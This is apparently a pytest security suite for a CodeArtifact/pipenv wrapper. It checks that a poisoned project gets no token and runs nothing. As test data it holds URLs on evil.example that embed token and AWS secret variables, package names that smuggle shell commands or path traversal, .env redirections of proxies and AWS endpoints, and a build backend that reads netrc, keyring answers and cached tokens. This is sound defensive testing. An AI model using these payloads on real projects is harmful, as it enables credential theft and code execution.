"""Attacks by a cloned project: it gets no token and no requests, and runs nothing."""

from __future__ import annotations

import json
import os
import shutil
import tarfile
from typing import TYPE_CHECKING, Any

import pytest
from support.programs import PIPENV_CA, Result, run
from support.projects import PYPI_SOURCE, source, write_pipfile
from support.runs import (
    KEYRING,
    TOKEN_VARIABLE,
    Calls,
    StandIn,
    assert_error,
    get_token,
    without_credentials,
)
from support.sandbox import FakePublicIndex, FakePublicIndexHandler
from support.servers import served

from codeartifact_pipenv.sandbox.sandbox import Sandbox
from codeartifact_pipenv.sandbox.wheels import make_wheel
from codeartifact_pipenv.settings import SETTINGS

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = pytest.mark.endurance

STRAY = f"https://evil.example/${{{TOKEN_VARIABLE}}}/x-1.0-py3-none-any.whl"
AWS_HOST = "my-dom-123456789012.d.codeartifact.us-east-1.amazonaws.com"
PRIVATE = '[packages]\norb-common = "*"\n'


@pytest.fixture(scope="module")
def codeartifact(
    tmp_path_factory: pytest.TempPathFactory, clean_base: dict[str, str]
) -> Iterator[Sandbox]:
    """A CodeArtifact with one private package and no upstream."""
    wheel = make_wheel(tmp_path_factory.mktemp("packages"), "orb-common", "2.0.0")
    with Sandbox(domain="my-dom", repository="team", base=clean_base, upstream=False) as sandbox:
        sandbox.publish(wheel)
        yield sandbox


class _Redirecting(FakePublicIndexHandler):
    def end_headers(self) -> None:
        status, _, target = self.server.pages.get(self.path, self.missing)
        if status == 302:
            self.send_header("Location", target.decode())
        super().end_headers()


class ForeignIndex(FakePublicIndex):
    """A foreign index on loopback that records all requests; a page of status 302 redirects."""

    def __init__(self) -> None:
        super().__init__()
        self.RequestHandlerClass = _Redirecting
        self.root = self.url.removesuffix("/simple/")
        self.table = f'[[source]]\nurl = "{self.url}"\nverify_ssl = true\nname = "evil"\n'

    def has_credentials(self, token: str) -> bool:
        """Whether a request had a token or a login."""
        return any(token[:60] in path or login for path, login in self.asked)


def lock_with(*sources: dict[str, Any], **categories: Any) -> str:
    """Return a lock with these sources after the repository, and these categories."""
    url = f"https://aws:${{{TOKEN_VARIABLE}}}@{AWS_HOST}/pypi/team/simple/"
    own = {"name": "codeartifact", "url": url, "verify_ssl": True}
    meta = {"hash": {"sha256": "0" * 64}, "sources": [own, *sources], "requires": {}}
    return json.dumps({"_meta": meta, "default": {}, "develop": {}} | categories)


class PoisonedProject:
    """A cloned project that tries to get a token."""

    def __init__(self, codeartifact: Sandbox, env: dict[str, str], folder: Path) -> None:
        self.codeartifact = codeartifact
        self.env = env
        self.folder = folder
        self.token = get_token(codeartifact, env, folder)
        self.pipenv = StandIn(folder.parent / "bin", _LOOK)
        # A version that hides tokens in arguments would otherwise get the token.
        version = folder.parent / "lib" / "python3" / "site-packages" / "pipenv" / "__version__.py"
        version.parent.mkdir(parents=True)
        version.write_text('__version__ = "2026.10.3"\n')
        self.write(PRIVATE)

    def write(self, *tables: str) -> None:
        """Write a Pipfile with the repository and these tables."""
        write_pipfile(self.folder, source(self.codeartifact.endpoint), *tables)

    def file(self, name: str, text: str, mode: int = 0o644) -> Path:
        """Write a file; a text for the Pipfile follows the repository."""
        path = self.folder / name
        path.write_text(source(self.codeartifact.endpoint) + text if name == "Pipfile" else text)
        path.chmod(mode)
        return path

    def program(self, name: str, marker: Path) -> Path:
        """Write a program that makes a file when it runs."""
        return self.file(name, f"#!/bin/sh\ntouch {marker}\n", 0o755)

    def __call__(self, *words: str, **env: str) -> Result:
        """Run a command with a stand-in for pipenv that records its input."""
        options = self.env | env | {"PIPENV_CA_PIPENV": str(self.pipenv.path)}
        return run(PIPENV_CA, *words, env=options, cwd=self.folder)

    def refused(self, part: str, *words: str, **env: str) -> None:
        """Check that a command is refused before any request or program."""
        calls = Calls(self.codeartifact)
        done = self(*words, **env)
        assert_error(done, 2, part)
        assert self.token not in done.output
        assert not self.pipenv.was_run
        assert calls.to_aws() == 0

    def gets_no_token(self, *words: str, **env: str) -> None:
        """Check that pipenv gets a loopback index and no token in any way."""
        done = self(*words, **env)
        assert done.status == 0, done.output
        record = self.pipenv.record
        assert [n for n, value in record["environ"].items() if self.token in value] == []
        assert self.token not in record["netrc"]
        assert "login pipenv-ca " in record["netrc"]


_LOOK = """
record["netrc"] = open(os.environ["NETRC"]).read() if "NETRC" in os.environ else ""
"""


@pytest.fixture(scope="module")
def tokens(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("cache") / "tokens"


@pytest.fixture
def poisoned(
    codeartifact: Sandbox, clean_env: dict[str, str], project: Path, tokens: Path
) -> PoisonedProject:
    env = codeartifact.environ(clean_env) | {"PIPENV_CA_CACHE_DIR": str(tokens)}
    return PoisonedProject(codeartifact, env, project)


@pytest.fixture
def evil() -> Iterator[ForeignIndex]:
    with served(ForeignIndex()) as server:
        yield server


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    return tmp_path / "was-run"


ANOTHER = '[[source]]\nurl = "{}"\nverify_ssl = true\nname = "evil"\n[packages]\n'
VARIABLE = f"${{{TOKEN_VARIABLE}}}"
# Where the token's variable is: a file and its text.
STRAYS: dict[str, tuple[str, str]] = {
    "a second source": ("Pipfile", ANOTHER.format(f"https://aws:{VARIABLE}@evil.example/simple")),
    "without braces": ("Pipfile", ANOTHER.format(f"https://evil.example/${TOKEN_VARIABLE}/simple")),
    "a name of a package": ("Pipfile", f'[packages]\n"x @ {STRAY}" = "*"\n'),
    "braces in braces": ("Pipfile", f'[packages]\nx = "@ {STRAY.replace("${", "${A${")}"\n'),
    "another category": ("Pipfile", f'[docs]\nx = {{file = "{STRAY}"}}\n'),
    "a source of the lock": ("Pipfile.lock", lock_with({"name": "evil", "url": STRAY})),
    "a name in the lock": ("Pipfile.lock", lock_with(develop={f"x @ {STRAY}": {"version": "*"}})),
    "git in the lock": ("Pipfile.lock", lock_with(docs={"x": {"git": STRAY, "ref": "main"}})),
    "a named pylock": ("pylock.dev.toml", f'[[packages]]\nname = "x"\nindex = "{STRAY}"\n'),
    ".env": (".env", f"PIP_EXTRA_INDEX_URL={STRAY}\n"),
    ".env with a default": (".env", f"A=${{{TOKEN_VARIABLE}:-x}}\n"),
}


@pytest.mark.parametrize("place", STRAYS)
def test_token_variable_in_any_place_is_refused(place: str, poisoned: PoisonedProject) -> None:
    poisoned.file(*STRAYS[place])
    poisoned.refused(TOKEN_VARIABLE, "sync")


def test_token_variable_in_pieces_is_refused(poisoned: PoisonedProject) -> None:
    begin, end = STRAY[:-30], STRAY[-30:]
    poisoned.file("Pipfile.lock", lock_with(default={f"x @ {begin}": {"version": end}}))
    poisoned.refused("an unfinished variable", "sync")
    poisoned.file("Pipfile.lock", lock_with())
    poisoned.write(f'[packages]\n"x @ {begin}" = "{end}"\n')
    for words in (("sync",), ("lock",), ("--ca-route", "loopback", "lock")):
        poisoned.refused("an unfinished variable", *words)


def test_requirements_files_get_no_token_from_pipenv(poisoned: PoisonedProject) -> None:
    poisoned.file("r.txt", f"x @ {STRAY}\n-r more.txt\n")
    poisoned.file("more.txt", f"y @ {STRAY}\n")
    ways = (("-r", "r.txt"), ("--requirements=r.txt",), ("-dr", "r.txt"))
    for words in ways:
        poisoned.refused("a requirements file", "--ca-route", "as-written", "install", *words)
    for words in ways:
        poisoned.gets_no_token("install", *words)
    poisoned.gets_no_token("install", "--req", "r.txt", CODEARTIFACT_AUTH_TOKEN=poisoned.token)


EVIL_URL = f"https://evil.example/${{{TOKEN_VARIABLE}}}"
INSTALL = ("run", "pip", "install", "-r", "r.txt")


@pytest.mark.parametrize(
    ("words", "name", "text"),
    [
        (("install", "-r", "r.txt"), "r.txt", f"-r {EVIL_URL}\n"),
        (INSTALL, "r.txt", f"six -c {EVIL_URL}\n"),
        (INSTALL, "r.txt", "--constr https://evil.example/${AWS_SECRET_ACCESS_KEY}\n"),
        (("run", "deps"), "Pipfile", f'[scripts]\ndeps = "pip install -r {EVIL_URL}"\n{PRIVATE}'),
        (("lock",), ".env", "PIP_CONSTRAINT=https://evil.example/${AWS_SECRET_ACCESS_KEY}\n"),
    ],
)
def test_requirements_files_by_urls_with_variables_are_not_fetched(
    words: tuple[str, ...], name: str, text: str, poisoned: PoisonedProject
) -> None:
    poisoned.file(".env", "")
    poisoned.file(name, text)
    env = {"AWS_SECRET_ACCESS_KEY": "hush"}
    if name != ".env":
        env[TOKEN_VARIABLE] = poisoned.token
    before = len(poisoned.codeartifact.requests)
    poisoned.refused("with a variable", *words, **env)
    assert not [r for r in poisoned.codeartifact.requests[before:] if r.host == "evil.example"]


RISKS = (
    *("PIP_CERT", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "SSL_CERT_FILE", "SSL_CERT_DIR"),
    *("PIP_TRUSTED_HOST", "PIP_REQUIREMENT", "PIP_CONSTRAINT", "PIP_PYTHON", "SSLKEYLOGFILE"),
    *("PIP_KEYRING_PROVIDER", "PIP_CLIENT_CERT", "HOME", "XDG_CONFIG_HOME", "PIP_CONFIG_FILE"),
)


@pytest.mark.parametrize("name", RISKS)
def test_with_tls_settings_or_another_home_in_dotenv_pip_gets_no_token(
    name: str, poisoned: PoisonedProject, evil: ForeignIndex
) -> None:
    poisoned.file(".env", f"{name}=./ca.pem\nHTTPS_PROXY={evil.root}\n")
    url = poisoned.codeartifact.endpoint.simple_url
    poisoned.refused(name, "run", "pip", "install", "-i", url, "orb-common")
    poisoned.refused(name, "--ca-route", "as-written", "sync")
    if name in RISKS[-3:]:  # by them, pip's files could lead around the proxy index
        poisoned.refused(name, "sync")
    else:
        poisoned.gets_no_token("sync")
    assert evil.asked == []


@pytest.mark.parametrize("words", ["install -r r.txt", "sync --extra-pip-args=-cr.txt"])
def test_pipenv_gets_no_token_where_a_file_may_name_its_variable(
    words: str, poisoned: PoisonedProject
) -> None:
    poisoned.file("r.txt", "six\n")
    why = "a requirements file may name any variable"
    poisoned.refused(why, "--ca-route", "as-written", *words.split())
    poisoned.gets_no_token(*words.split())


def test_an_unverified_source_gets_no_token_from_pip(poisoned: PoisonedProject) -> None:
    poisoned.file("Pipfile.lock", lock_with().replace("true", "false"))
    poisoned.gets_no_token("sync")
    pipfile = poisoned.folder / "Pipfile"
    pipfile.write_text(pipfile.read_text().replace("verify_ssl = true", "verify_ssl = false"))
    (poisoned.folder / "Pipfile.lock").unlink()
    poisoned.gets_no_token("sync")


@pytest.mark.parametrize(
    "name",
    [
        *("NO_PROXY", "no_proxy", "PIP_PROXY", "NETRC", "TMPDIR"),
        *("PIPENV_PYPI_MIRROR", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL"),
    ],
)
def test_dotenv_must_not_override_the_variables_of_a_run(
    name: str, poisoned: PoisonedProject, evil: ForeignIndex
) -> None:
    poisoned.write(PYPI_SOURCE, PRIVATE)
    poisoned.file(".env", f"HTTP_PROXY={evil.root}\n{name}={evil.url}\n")
    poisoned.refused(name, "lock")
    assert evil.asked == []


def test_dotenv_settings_of_aws_and_of_this_program_are_ignored(
    poisoned: PoisonedProject, evil: ForeignIndex, marker: Path, tmp_path: Path
) -> None:
    program = poisoned.program("program", marker)
    poisoned.file("config", f"[default]\ncredential_process = {program}\n[profile p]\n")
    poisoned.file("evil_backend.py", f"open({str(marker)!r}, 'w')\n")
    poisoned.file(
        ".env",
        f"AWS_CONFIG_FILE={poisoned.folder}/config\nAWS_SHARED_CREDENTIALS_FILE=/dev/null\n"
        f"AWS_PROFILE=p\nAWS_ENDPOINT_URL={evil.root}\nAWS_ENDPOINT_URL_CODEARTIFACT={evil.root}\n"
        f"AWS_CA_BUNDLE=./ca.pem\nAWS_ACCESS_KEY_ID=AKIAEVIL\nAWS_SECRET_ACCESS_KEY=x\n"
        f"PYTHONPATH={poisoned.folder}\nPYTHON_KEYRING_BACKEND=evil_backend.Backend\n"
        f"PIPENV_CA_PIPENV={program}\nPIPENV_CA_KEYRING_BACKEND=evil_backend.Backend\n"
        f"PIPENV_CA_CACHE_DIR={poisoned.folder}/tokens\nPIPENV_CA_CONFIG=./config.toml\n"
        f"PIPENV_CA_ALLOWED_OWNERS=999999999999\nPIPENV_CA_ROUTE=as-written\n",
    )
    calls = Calls(poisoned.codeartifact)
    poisoned.env["PIPENV_CA_CACHE_DIR"] = str(tmp_path / "tokens")
    done = poisoned("lock")
    assert done.status == 0, done.output
    assert calls.callers() == [poisoned.codeartifact.user.access_key_id]
    assert not marker.exists()
    assert evil.asked == []
    assert not (poisoned.folder / "tokens").exists()


@pytest.mark.parametrize("name", [each.name for each in SETTINGS.values() if each.personal])
def test_personal_settings_in_a_project_are_refused(
    name: str, poisoned: PoisonedProject, marker: Path
) -> None:
    poisoned.program("program", marker)
    poisoned.file("evil_backend.py", f"open({str(marker)!r}, 'w')\n")
    value = "evil_backend.Backend" if name == "keyring-backend" else "./program"
    poisoned.file("pyproject.toml", f"[tool.codeartifact-pipenv]\n{name} = '{value}'\n")
    poisoned.refused("may not choose", "lock")
    words = (KEYRING, "get", poisoned.codeartifact.endpoint.simple_url, "aws")
    got = run(*words, env=poisoned.env, cwd=poisoned.folder)
    assert (got.status, got.stdout.strip()) == (0, poisoned.token)
    assert not marker.exists()


def test_inspecting_a_project_runs_none_of_its_code(
    poisoned: PoisonedProject, marker: Path
) -> None:
    code = f"import os\nos.close(os.open({str(marker)!r}, os.O_CREAT))\n"
    for name in ("platform", "csv", "email", "zipfile", "json", "keyring", "pip", "sitecustomize"):
        poisoned.file(f"{name}.py", code)
    (poisoned.folder / ".venv" / "bin").mkdir(parents=True)
    poisoned.file(".venv/bin/activate", f"touch {marker}\n")
    poisoned.file(".venv/pyvenv.cfg", "version = 3.9.1\nhome = /nowhere\n")
    for name in (".venv/bin/python", "pipenv", "keyring", "pip", "twine", "python"):
        poisoned.program(name, marker)
    env = poisoned.env | {"PATH": f".{os.pathsep}{os.environ['PATH']}"}
    for words in (
        (PIPENV_CA, "doctor", "--offline"),
        (PIPENV_CA, "lint"),
        (PIPENV_CA, "token"),
        (PIPENV_CA, "login", "pip", "--dry-run"),
        (KEYRING, "get", poisoned.codeartifact.endpoint.host, "aws"),
    ):
        done = run(*words, env=env, cwd=poisoned.folder)
        assert "Traceback" not in done.stderr
        assert not marker.exists(), words
    done = run(PIPENV_CA, "--ca-pipenv", "pipenv", "lock", env=env, cwd=poisoned.folder)
    assert_error(done, 127, "pipenv was not found on PATH")
    assert not marker.exists()


def test_a_script_named_pip_gets_no_token(poisoned: PoisonedProject) -> None:
    poisoned.write(PRIVATE, '[scripts]\npip = "sh evil.sh"\n')
    assert poisoned("run", "pip", "install", "x").status == 0
    assert poisoned.token not in json.dumps(poisoned.pipenv.record)


NAMES = (
    *("../../../etc/passwd", "-r evil.txt", "--index-url=http://evil.example/", "$(touch x)"),
    *("`touch x`", "a;touch x", "a\\u0000b", "a\\nb", "..", "%2e%2e", "\\u001b[2J", "a/../../b"),
    *("?x", "#", "https://evil.example/x.whl", "a@b", "\\u202e", " ", ""),
)


def test_malicious_package_names_are_harmless(
    poisoned: PoisonedProject, evil: ForeignIndex
) -> None:
    entries = "".join(f'"{name}" = "*"\n' for name in NAMES)
    poisoned.write(evil.table, f"[packages]\n{entries}")
    poisoned.pipenv = StandIn(poisoned.folder.parent / "failing", _LOOK, "sys.exit(1)")
    for words in (("lock",), ("doctor",), ("lint",), ("fix", "--diff")):
        done = poisoned(*words)
        assert done.status in {0, 1}, (words, done.output)
        assert "Traceback" not in done.stderr, (words, done.output)
        assert "\x1b" not in done.output
    assert {path.split("/")[1] for path, _ in evil.asked} <= {"simple"}
    assert not evil.has_credentials(poisoned.token)
    assert not [*poisoned.folder.parent.rglob("x")]


def test_pylock_name_must_not_overwrite_another_file(poisoned: PoisonedProject) -> None:
    poisoned.write(f'[pipenv]\nuse_pylock = true\npylock_name = "/../config"\n{PRIVATE}')
    poisoned.refused("pylock_name", "lock")


def test_a_linked_pipfile_leaves_its_target_unchanged(
    poisoned: PoisonedProject, tmp_path: Path
) -> None:
    other = tmp_path / "secret.toml"
    other.write_text('password = "hunter2"\n')
    (poisoned.folder / "Pipfile").unlink()
    (poisoned.folder / "Pipfile").symlink_to(other)
    for words in (("lock",), ("doctor", "--offline"), ("lint",), ("fix",)):
        assert "hunter2" not in poisoned(*words).output
    assert other.read_text() == 'password = "hunter2"\n'


def test_foreign_sources_and_redirects_get_no_token(
    poisoned: PoisonedProject,
    evil: ForeignIndex,
    tmp_path: Path,
) -> None:
    with served(ForeignIndex()) as other:
        harmless = make_wheel(tmp_path, "harmless", "1.0", requires=["orb-common"])
        evil.add("orb-common", make_wheel(tmp_path, "orb-common", "99.0"))
        other.add("harmless", harmless)
        evil.pages["/simple/harmless/"] = (302, "", f"{other.url}harmless/".encode())
        own = source(poisoned.codeartifact.endpoint)
        pipfile = write_pipfile(poisoned.folder, evil.table, own, '[packages]\nharmless = "*"\n')
        poisoned.file("r.txt", f"x @ {evil.root}/${{{TOKEN_VARIABLE}}}/x-1.0-py3-none-any.whl\n")
        before = pipfile.read_bytes()
        for command in ("lock", "sync"):
            done = run(PIPENV_CA, command, env=poisoned.env, cwd=poisoned.folder)
            assert done.status == 0, done.output
        locked = json.loads((poisoned.folder / "Pipfile.lock").read_text())["default"]["orb-common"]
        assert (locked["version"], locked["index"]) == ("==2.0.0", "codeartifact")
        # A URL in a requirements file is requested as written.
        run(PIPENV_CA, "install", "-r", "r.txt", env=poisoned.env, cwd=poisoned.folder)
        for index in (evil, other):
            assert index.asked
            assert not index.has_credentials(poisoned.token)
            # The page may be requested, but no file.
            assert not any("orb_common-99.0" in path for path, _ in index.asked)
        assert pipfile.read_bytes() == before


# Writes what build code can read: its environment, netrc, the answer of keyring, the cache.
_BACKEND = """
import glob, json, os, subprocess
def prepare_metadata_for_build_wheel(folder, config_settings=None):
    files = [os.environ.get("NETRC", "nowhere"), *glob.glob({cache!r} + "/*.json")]
    texts = [open(path).read() for path in files if os.path.exists(path)]
    answer = subprocess.run({keyring!r}, capture_output=True, text=True).stdout
    with open({out!r}, "w") as file:
        json.dump([dict(os.environ), texts[0], answer, texts[1:]], file)
    os.makedirs(folder + "/orb_built-1.0.dist-info")
    with open(folder + "/orb_built-1.0.dist-info/METADATA", "w") as file:
        file.write("Metadata-Version: 2.1\\nName: orb-built\\nVersion: 1.0\\n")
    return "orb_built-1.0.dist-info"
"""
_SETTINGS = """
build-system = {requires = [], build-backend = "backend", backend-path = ["."]}
project = {name = "orb-built", version = "1.0"}
"""


def make_curious_sdist(folder: Path, **places: object) -> Path:
    """Make a source distribution whose backend writes what it can read."""
    path = folder / "orb_built-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        for name, text in {
            "backend.py": _BACKEND.format(**places),
            "pyproject.toml": _SETTINGS,
            "PKG-INFO": "Metadata-Version: 2.1\nName: orb-built\nVersion: 1.0\n",
        }.items():
            (folder / name).write_text(text)
            archive.add(folder / name, f"orb_built-1.0/{name}")
    return path


def test_build_code_sees_no_token_by_the_proxy_index(
    codeartifact: Sandbox, poisoned: PoisonedProject, tmp_path: Path
) -> None:
    """With AWS credentials it can ask for one, or read the cache, as the user could."""
    cache, out = tmp_path / "tokens", tmp_path / "seen.json"
    poisoned.env |= {
        "PIPENV_CA_CACHE_DIR": str(cache),
        "PIP_NO_CACHE_DIR": "1",  # otherwise pip reuses a wheel that it has built
        "PIPENV_CACHE_DIR": str(tmp_path / "pipenv"),
    }
    keyring = [KEYRING, "get", codeartifact.endpoint.simple_url, "aws"]
    repository = codeartifact.add_repository("built")
    codeartifact.publish(
        make_curious_sdist(tmp_path, keyring=keyring, out=str(out), cache=str(cache)), repository
    )
    write_pipfile(poisoned.folder, source(repository), '[packages]\norb-built = "*"\n')
    token = get_token(codeartifact, poisoned.env, poisoned.folder)

    def lock(**env: str) -> list[Any]:
        words = (PIPENV_CA, "--ca-route", "loopback", "lock", "--clear")
        done = run(*words, env=poisoned.env | env, cwd=poisoned.folder)
        assert done.status == 0, done.output
        seen: list[Any] = json.loads(out.read_text())
        return seen

    environ, netrc, answer, cached = lock()
    assert token not in json.dumps([environ, netrc])
    assert "login pipenv-ca password " in netrc
    assert token in answer
    assert any(token in text for text in cached)
    # The safest setup: an inherited token, no credentials, no cache, and the proxy index.
    poisoned.env = without_credentials(poisoned.env)
    shutil.rmtree(cache)
    assert token not in json.dumps(lock(**{TOKEN_VARIABLE: token}))
